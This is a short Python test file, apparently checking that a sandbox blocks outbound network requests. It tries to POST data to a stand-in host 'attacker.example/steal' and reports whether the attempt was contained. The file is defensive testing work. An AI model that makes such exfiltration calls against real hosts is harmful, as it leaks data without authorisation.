# hostile: posts to a host no rule allows
# status: ok
# stdout: contained
# denied: 1

import urllib.request, urllib.error
try:
    urllib.request.urlopen("http://attacker.example/steal", data=b"x", timeout=2)
    print("ESCAPED")
except urllib.error.URLError as error:
    print("contained", type(error.reason).__name__)
